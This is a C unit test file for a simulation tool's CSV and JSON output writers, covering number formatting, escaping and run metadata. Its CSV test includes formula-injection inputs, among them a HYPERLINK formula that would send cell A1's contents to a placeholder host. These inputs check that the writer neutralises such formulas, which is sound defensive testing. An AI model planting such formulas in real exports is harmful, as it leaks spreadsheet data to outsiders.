/* tests/unit/test_output.c -- the writers: number format, CSV
 * and JSON, on hand-made results (no engine needed). */
#include <stdlib.h>
#include <string.h>

#include "fs_test.h"
#include "fs_output.h"

/* Reads everything written to f (a tmpfile) as a string; free it. */
static char *slurp(FILE *f)
{
    long len;
    char *s;

    assert_int_equal(fflush(f), 0);
    len = ftell(f);
    assert_true(len >= 0);
    rewind(f);
    s = malloc((size_t)len + 1);
    assert_non_null(s);
    assert_int_equal(fread(s, 1, (size_t)len, f), (size_t)len);
    s[len] = '\0';
    return s;
}

static void check_num(double x, const char *want)
{
    char buf[FS_OUT_NUMBUF];
    fs_out_format_double(x, buf, sizeof buf);
    if (strcmp(buf, want) != 0)
        fail_msg("format(%.17g) = \"%s\", want \"%s\"", x, buf, want);
    if (want[0]) { /* it reads back exactly */
        double back = strtod(buf, NULL);
        if (memcmp(&back, &x, sizeof x) != 0 && !(x == 0 && back == 0))
            fail_msg("format(%.17g) = \"%s\" does not read back", x, buf);
    }
}

static void test_number_format(void **state)
{
    (void)state;
    check_num(0.0, "0");
    check_num(-0.0, "0");
    check_num(1.0, "1");
    check_num(400000.0, "400000");
    check_num(0.35, "0.35");
    check_num(-1234.5, "-1234.5");
    check_num(2.385, "2.385");
    check_num(0.1 + 0.2, "0.30000000000000004");
    check_num(1e21, "1000000000000000000000");
    check_num(123456789012.25, "123456789012.25");
    check_num(1.5e-7, "0.00000015");
    check_num(1e-10, "0.0000000001");
}

static void test_number_format_extremes(void **state)
{
    char buf[FS_OUT_NUMBUF];
    double xs[] = {1e-300, 5e-324, 1.7976931348623157e308, -2.2250738585072014e-308,
                   12345678.901234567, 1.0 / 3.0};
    (void)state;

    for (size_t i = 0; i < sizeof xs / sizeof xs[0]; i++) {
        double back;
        assert_int_equal(fs_out_format_double(xs[i], buf, sizeof buf), 1);
        assert_null(strchr(buf, 'e'));
        assert_null(strchr(buf, 'E'));
        back = strtod(buf, NULL);
        assert_memory_equal(&back, &xs[i], sizeof back);
    }
    assert_int_equal(fs_out_format_double(NAN, buf, sizeof buf), 0);
    assert_string_equal(buf, "");
    assert_int_equal(fs_out_format_double(-INFINITY, buf, sizeof buf), 0);
    assert_string_equal(buf, "");
}

/* A results object with 2 replications x 2 years, every value distinct. */
static fs_results *make_results(void)
{
    fs_results *r = calloc(1, sizeof *r);
    assert_non_null(r);
    snprintf(r->scenario, sizeof r->scenario, "%s", "test,\"q\"");
    r->start_year = 2023;
    r->years = 2;
    r->replications = 2;
    r->first_rep = 0;
    r->rep_count = 2;
    r->seed = 42;
    r->mode = FS_MODE_EXACT;
    r->enrollee_years = 1234.0;
    r->values = calloc((size_t)2 * 2 * FS_M_COUNT, sizeof *r->values);
    assert_non_null(r->values);
    for (int rep = 0; rep < 2; rep++)
        for (int y = 0; y < 2; y++)
            for (int m = 0; m < (int)FS_M_COUNT; m++)
                *fs_results_at(r, rep, y, (fs_metric)m) = rep * 1000.0 + y * 100.0 + m + 0.25;
    *fs_results_at(r, 1, 1, FS_M_SURPLUS_RATE) = NAN;
    return r;
}

static void free_results(fs_results *r)
{
    free(r->values);
    free(r);
}

static void test_summary_csv(void **state)
{
    fs_results *r = make_results();
    fs_stat *stats = calloc((size_t)r->years * FS_M_COUNT, sizeof *stats);
    FILE *f = tmpfile();
    char *s, *line2, *nl;
    size_t lines = 0;
    (void)state;

    assert_non_null(stats);
    assert_non_null(f);
    for (size_t i = 0; i < (size_t)r->years * FS_M_COUNT; i++) {
        fs_stat st = {1.5, 0.125, 2.0, -3.0, 0.0, 4e9, 1e-7, 7.0};
        stats[i] = st;
    }
    stats[FS_M_COUNT + FS_M_SURPLUS_RATE].mean = NAN;
    assert_int_equal(fs_out_summary_csv(f, r, stats), FS_OK);
    s = slurp(f);
    for (char *p = s; *p; p++)
        lines += *p == '\n';
    assert_int_equal(lines, 1 + (size_t)r->years * FS_M_COUNT);
    nl = strchr(s, '\n');
    assert_non_null(nl);
    *nl = '\0';
    assert_string_equal(s, "scenario,year,metric,mean,se,sd,p05,p25,p50,p75,p95");
    line2 = nl + 1;
    nl = strchr(line2, '\n');
    *nl = '\0';
    assert_string_equal(line2,
                        "\"test,\"\"q\"\"\",2023,enrollees,1.5,0.125,2,-3,0,4000000000,0.0000001,7");
    *nl = '\n';
    /* Year 2024, surplus_rate: NaN mean is an empty field. */
    assert_non_null(strstr(s + strlen(s) + 1,
                           "\n\"test,\"\"q\"\"\",2024,surplus_rate,,0.125,2,-3,0,4000000000,"
                           "0.0000001,7\n"));
    assert_null(strstr(s + strlen(s) + 1, "e+"));
    assert_null(strstr(s + strlen(s) + 1, "e-"));
    free(s);
    fclose(f);
    free(stats);
    free_results(r);
}

static void test_replications_csv(void **state)
{
    fs_results *r = make_results();
    FILE *f = tmpfile();
    char *s;
    size_t lines = 0;
    (void)state;

    r->first_rep = 10; /* an MPI slice: reps are numbered globally */
    assert_int_equal(fs_out_replications_csv(f, r), FS_OK);
    s = slurp(f);
    for (char *p = s; *p; p++)
        lines += *p == '\n';
    assert_int_equal(lines, 1 + 2 * 2 * (size_t)FS_M_COUNT);
#define REPS_HEAD                                                                                  \
    ("scenario,rep,year,metric,value\n\"test,\"\"q\"\"\",10,2023,enrollees,0.25\n"                         \
     "\"test,\"\"q\"\"\",10,2023,income_total,1.25\n")
    assert_true(strncmp(s, REPS_HEAD, strlen(REPS_HEAD)) == 0);
    assert_non_null(strstr(s, "\",11,2024,surplus_rate,\n"));
    assert_non_null(strstr(s, "\",11,2024,per_capita_spend,1139.25\n"));
    free(s);
    fclose(f);
    free_results(r);
}

static void check_json(const char *in, const char *want)
{
    FILE *f = tmpfile();
    char *s;

    assert_non_null(f);
    fs_out_json_string(f, in);
    s = slurp(f);
    assert_string_equal(s, want);
    free(s);
    fclose(f);
}

static void test_json_escaping(void **state)
{
    (void)state;
    check_json("plain", "\"plain\"");
    check_json("a\"b\\c", "\"a\\\"b\\\\c\"");
    check_json("tab\there\nnl\r\b\f", "\"tab\\there\\nnl\\r\\b\\f\"");
    check_json("\x01\x1f\x7f", "\"\\u0001\\u001f\\u007f\"");
    check_json("文水县 2023", "\"文水县 2023\"");
    check_json("emoji \xf0\x9f\x98\x80", "\"emoji \xf0\x9f\x98\x80\"");
    /* Not UTF-8: a lone continuation byte, a truncated sequence, overlong. */
    check_json("a\x80z", "\"a\\ufffdz\"");
    check_json("\xe6\x96", "\"\\ufffd\\ufffd\"");
    check_json("\xc0\xaf", "\"\\ufffd\\ufffd\"");
    check_json(NULL, "\"\"");
}

static void test_csv_field(void **state)
{
    FILE *f = tmpfile();
    char *s;
    (void)state;

    fs_out_csv_field(f, "plain 文水");
    putc('|', f);
    fs_out_csv_field(f, "a,b");
    putc('|', f);
    fs_out_csv_field(f, "say \"hi\"");
    putc('|', f);
    fs_out_csv_field(f, "two\nlines");
    s = slurp(f);
    assert_string_equal(s, "plain 文水|\"a,b\"|\"say \"\"hi\"\"\"|\"two\nlines\"");
    free(s);
    fclose(f);

    /* Formula injection (issue 13, D10): a text beginning with = + - @, tab
     * or CR gets a leading '; numbers (also signed ones) stay as they are. */
    static const char *const in[] = {"=HYPERLINK(\"http://e.x/?\"&A1,\"c\")", "+1+2", "-2+3",
                                     "@SUM(A1)", "\tx", "\rx", "-0.5", "+3e2", "-inf", "a=b"};
    static const char *const out[] = {"\"'=HYPERLINK(\"\"http://e.x/?\"\"&A1,\"\"c\"\")\"",
                                      "'+1+2", "'-2+3", "'@SUM(A1)", "'\tx", "\"'\rx\"",
                                      "-0.5", "+3e2", "'-inf", "a=b"};
    for (size_t i = 0; i < sizeof in / sizeof in[0]; i++) {
        f = tmpfile();
        fs_out_csv_field(f, in[i]);
        s = slurp(f);
        assert_string_equal(s, out[i]);
        assert_int_equal(fs_out_csv_neutralises(in[i]), out[i][0] == '\'' || out[i][1] == '\'');
        free(s);
        fclose(f);
    }
}

static void test_run_json(void **state)
{
    fs_results *r = make_results();
    FILE *f = tmpfile();
    const char *files[] = {"scenarios/a \"x\".yaml", "data/b.csv"};
    const char *sums[] = {"ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad", NULL};
    const char *argv[] = {"fundsim", "run", "a.yaml"};
    fs_run_info info;
    char *s;
    (void)state;

    const char *outputs[] = {"summary.csv", "run.json"};
    memset(&info, 0, sizeof info);
    info.scenario_name = "文水\n";
    info.files = (fs_file_list){2, files, sums, 0, NULL, 0, NULL, 0};
    info.output_count = 2;
    info.outputs = outputs;
    r->mode = FS_MODE_EXACT;
    r->mode_requested = FS_MODE_SAMPLE;
    r->threads = 2;
    info.ranks = 1;
    info.wall_seconds = 0.5;
    info.argc = 3;
    info.argv = argv;
    r->seed = UINT64_MAX;
    assert_int_equal(fs_out_run_json(f, r, &info), FS_OK);
    s = slurp(f);
    assert_true(s[0] == '{');
    assert_non_null(strstr(s, "\"fundsim_version\": \"" FS_VERSION "\",\n"));
    assert_non_null(strstr(s, "\"scenario\": \"文水\\n\",\n"));
    assert_non_null(strstr(s, "{\"path\": \"scenarios/a \\\"x\\\".yaml\", \"sha256\": "
                              "\"ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\"}"));
    assert_non_null(strstr(s, "{\"path\": \"data/b.csv\", \"sha256\": null}"));
    assert_non_null(strstr(s, "\"seed\": 18446744073709551615,\n"));
    assert_non_null(strstr(s, "\"replications\": 2,\n"));
    assert_non_null(strstr(s, "\"start_year\": 2023,\n"));
    assert_non_null(strstr(s, "\"mode\": \"exact\",\n  \"mode_requested\": \"sample\",\n"
                              "  \"threads\": 2,\n"));
    assert_non_null(strstr(s, "\"outputs\": [\"summary.csv\", \"run.json\"],\n"));
    assert_non_null(strstr(s, "\"wall_seconds\": 0.5,\n"));
    assert_non_null(strstr(s, "\"enrollee_years\": 1234,\n"));
    assert_non_null(strstr(s, "\"generator\": \"philox4x32-10\",\n"));
    assert_non_null(strstr(s, "\"command\": [\"fundsim\", \"run\", \"a.yaml\"]\n}\n"));
    free(s);
    fclose(f);
    free_results(r);
}

static void test_display_width(void **state)
{
    (void)state;
    assert_int_equal(fs_out_display_width(""), 0);
    assert_int_equal(fs_out_display_width("abc"), 3);
    assert_int_equal(fs_out_display_width("元/人"), 5);
    assert_int_equal(fs_out_display_width("文医保发[2022]10号"), 2 * 5 + 8);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_number_format),   cmocka_unit_test(test_number_format_extremes),
        cmocka_unit_test(test_summary_csv),     cmocka_unit_test(test_replications_csv),
        cmocka_unit_test(test_json_escaping),   cmocka_unit_test(test_csv_field),
        cmocka_unit_test(test_run_json),        cmocka_unit_test(test_display_width),
        
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
